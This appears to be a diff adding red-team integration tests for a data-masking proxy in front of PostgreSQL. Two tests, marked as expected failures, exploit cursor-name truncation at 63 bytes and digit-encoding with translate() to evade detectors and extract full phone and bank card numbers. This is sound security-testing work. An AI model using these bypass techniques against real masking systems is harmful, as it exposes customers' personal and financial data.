@@ -1,0 +1,99 @@
+"""Red team v5: attacks on the features of r10 (SQL cursors, SQL PREPARE, COPY options, limits).
+
+Every test here demonstrates a leak through the real proxy in front of a real PostgreSQL and is
+marked xfail(strict=True) until the proxy is fixed; the reason line says what leaks.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+import psycopg
+import pytest
+
+from proxy.demo.embedded_pg import EmbeddedPostgres
+from tests.conftest import start_crm
+from tests.integration.harness import serve_demo
+
+pytestmark = pytest.mark.integration
+
+SVC_PW = "svc-secret-red5"
+VENDOR = ("vendor_zhang", "vendor-pass")
+DESK = ("desk_li", "desk-pass")
+DIGITS = str.maketrans("abcdefghij", "0123456789")
+
+
+@pytest.fixture(scope="module")
+def crm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedPostgres]:
+    pg = start_crm(tmp_path_factory.mktemp("pg-red5"), SVC_PW, 300)
+    try:
+        yield pg
+    finally:
+        pg.destroy()
+
+
+@pytest.fixture(scope="module")
+def served(crm: EmbeddedPostgres, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    with serve_demo(tmp_path_factory.mktemp("red5"), crm, SVC_PW) as s:
+        yield s
+
+
+@pytest.fixture(scope="module")
+def truth(crm: EmbeddedPostgres) -> dict[str, Any]:
+    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
+        cust = c.execute(
+            "SELECT id, phone, id_card, bank_card, branch_id FROM customers ORDER BY id"
+        ).fetchall()
+    return {
+        "phones": {r[1] for r in cust},
+        "id_cards": {r[2] for r in cust},
+        "bank_cards": {r[3] for r in cust if r[3]},
+        "branch12": {r[0] for r in cust if r[4] == 12},
+    }
+
+
+def connect(served: dict[str, Any], user: tuple[str, str], **kw: Any) -> psycopg.Connection[Any]:
+    return psycopg.connect(
+        host="127.0.0.1", port=served["port"], user=user[0], password=user[1], dbname="crm", **kw
+    )
+
+
+# A cursor name the server cuts to 63 bytes while the proxy keeps it whole: CLOSE and DECLARE
+# under the long name act, on the server, on the cursor of the short one, whose decision the
+# proxy keeps (a text literal: nothing masked). FETCH from the short name then returns the
+# long DECLARE's rows under the literal's decision. translate() keeps the digits out of reach
+# of the detectors that scan unclassified text.
+SHORT = "c" * 63
+LONG = SHORT + "x"
+
+
+@pytest.mark.xfail(
+    strict=True, reason="LEAK: a 64-byte cursor name is cut by the server, not the proxy: full mobile"
+)
+def test_truncated_cursor_name_fetches_under_another_decision(
+    served: dict[str, Any], truth: dict[str, Any]
+) -> None:
+    with connect(served, VENDOR) as conn:
+        conn.execute(f"DECLARE {SHORT} CURSOR FOR SELECT 'hello'::text AS t")
+        conn.execute(f"CLOSE {LONG}")
+        conn.execute(
+            f"DECLARE {LONG} CURSOR FOR SELECT translate(phone, '0123456789', 'abcdefghij') FROM customers"
+        )
+        got = {r[0].translate(DIGITS) for r in conn.execute(f"FETCH 5 FROM {SHORT}").fetchall()}
+    assert not got & truth["phones"]
+
+
+@pytest.mark.xfail(
+    strict=True, reason="LEAK: a 64-byte cursor name is cut by the server, not the proxy: full bank card"
+)
+def test_truncated_cursor_name_desk_bank_card(served: dict[str, Any], truth: dict[str, Any]) -> None:
+    with connect(served, DESK) as conn:
+        conn.execute(f"DECLARE {SHORT} CURSOR FOR SELECT 'hello'::text AS t")
+        conn.execute(f"CLOSE {LONG}")
+        conn.execute(
+            f"DECLARE {LONG} CURSOR FOR SELECT translate(bank_card, '0123456789', 'abcdefghij') "
+            "FROM customers WHERE bank_card IS NOT NULL"
+        )
+        got = {r[0].translate(DIGITS) for r in conn.execute(f"FETCH 5 FROM {SHORT}").fetchall()}
+    assert not got & truth["bank_cards"]
